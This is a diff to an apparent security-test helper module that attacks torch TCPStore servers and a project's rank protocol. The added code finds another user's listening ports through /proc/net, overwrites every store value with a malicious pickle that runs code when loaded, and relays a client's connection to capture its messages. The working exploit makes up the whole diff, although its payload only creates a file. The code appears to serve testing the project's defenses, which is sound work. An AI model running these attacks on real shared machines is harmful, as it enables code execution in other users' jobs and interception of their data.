@@ -7,8 +7,11 @@ python -m contrib.attack.hands.strangers WHAT HOST PORTS [SECONDS] [MORE]
     squat     listen on the ports, and answer nothing
     keys      list the keys of a torch TCPStore, and print them with their values as JSON
     pickle    replace every value of a torch TCPStore by a pickle that creates the file MORE
+    pickles   the same again and again, in each such store of the user in MORE (JSON: uid, file); then print what was
+              there
     guess     greet with each of the guessed keys in MORE (JSON), for purpose "ranks" and "launchers"
-    record    listen, and print what the first connection sends; answer with the nonce in MORE
+    find      print the ports on which the user MORE (a uid) listens, by kind of address
+    relay     listen on the first port, pass all on to the second, and print what the client sent
     replay    send the recorded lines in MORE (JSON), and print what comes back
 """
 
@@ -18,6 +21,7 @@ import contextlib
 import json
 import os
 import pickle
+import select
 import socket
 import sys
 import time
@@ -73,7 +77,7 @@ def keys(host: str, port: int) -> dict[str, str]:
     """Return the readable keys and values of a TCPStore."""
     import torch.distributed as dist  # noqa: PLC0415 - the others need no torch
 
-    store = dist.TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=5))
+    store = dist.TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2))
     found: dict[str, str] = {}
     for key in store.list_keys() if hasattr(store, "list_keys") else []:
         with contextlib.suppress(Exception):
@@ -101,6 +105,26 @@ def leave_pickles(host: str, port: int, path: str) -> int:
     return len(names)
 
 
+def leave_pickles_everywhere(host: str, uid: str, path: str, seconds: float) -> dict[str, str]:
+    """Go on for so long; return all keys and values that were there."""
+    import torch.distributed as dist  # noqa: PLC0415 - the others need no torch
+
+    end, found = time.monotonic() + seconds, {}
+    print("ready", flush=True)
+    while time.monotonic() < end:
+        # torch's store is the one that listens on IPv6, too.
+        for port in find(uid)["tcp6"]:
+            with contextlib.suppress(Exception):
+                found |= {f"{port} {key}": value for key, value in keys(host, port).items()}
+                store = dist.TCPStore(
+                    host, port, is_master=False, wait_for_workers=False, timeout=timedelta(seconds=2)
+                )
+                for key in store.list_keys():
+                    store.set(str(key), pickle.dumps(Bomb(path)))
+        time.sleep(0.1)
+    return found
+
+
 def guess(host: str, port: int, guesses: list[str]) -> list[str]:
     from pollux.ranks.sealed import NoAnswer, connect  # noqa: PLC0415 - the others need it not
 
@@ -122,15 +146,34 @@ def lines_of(connection: socket.socket, seconds: float) -> list[str]:
     return received.decode("latin-1").splitlines()
 
 
-def record(port: int, seconds: float, answer: str) -> list[str]:
-    listener = socket.create_server(("", port))
+def find(uid: str) -> dict[str, list[int]]:
+    """Return the user's listening ports, which Linux shows to all. proc(5)."""
+    found: dict[str, list[int]] = {}
+    for kind in ("tcp", "tcp6"):
+        with open(f"/proc/net/{kind}", encoding="ascii") as file:
+            rows = [line.split() for line in file][1:]
+        found[kind] = [int(r[1].rpartition(":")[2], 16) for r in rows if r[3] == "0A" and r[7] == uid]
+    return found
+
+
+def relay(host: str, here: int, there: int, seconds: float) -> list[str]:
+    """Stand between a client and its server; return the client's lines."""
+    listener = socket.create_server(("", here))
     listener.settimeout(seconds)
     print("listens", flush=True)
-    connection, _ = listener.accept()
-    connection.settimeout(5)
-    first = connection.recv(1 << 16).decode("latin-1")
-    connection.sendall((json.dumps({"nonce": answer}) + "\n").encode())
-    return [*first.splitlines(), *lines_of(connection, 2.0)]
+    client, _ = listener.accept()
+    server = socket.create_connection((host, there), timeout=5)
+    sent, ends = b"", {client: server, server: client}
+    while True:
+        readable, _, _ = select.select(list(ends), [], [], 5.0)
+        if not readable:
+            break
+        data = readable[0].recv(1 << 16)
+        if not data:
+            break
+        sent += data if readable[0] is client else b""
+        ends[readable[0]].sendall(data)
+    return sent.decode("latin-1").splitlines()
 
 
 def replay(host: str, port: int, lines: list[str]) -> list[str]:
@@ -155,10 +198,15 @@ def main() -> None:
             print(json.dumps(keys(host, ports[0])))
         case "pickle":
             print(leave_pickles(host, ports[0], more))
+        case "pickles":
+            uid, path = json.loads(more)
+            print(json.dumps(leave_pickles_everywhere(host, uid, path, seconds)), flush=True)
         case "guess":
             print(json.dumps(guess(host, ports[0], json.loads(more))))
-        case "record":
-            print(json.dumps(record(ports[0], seconds, more)), flush=True)
+        case "find":
+            print(json.dumps(find(more)))
+        case "relay":
+            print(json.dumps(relay(host, ports[0], ports[1], seconds)), flush=True)
         case "replay":
             print(json.dumps(replay(host, ports[0], json.loads(more))), flush=True)
 
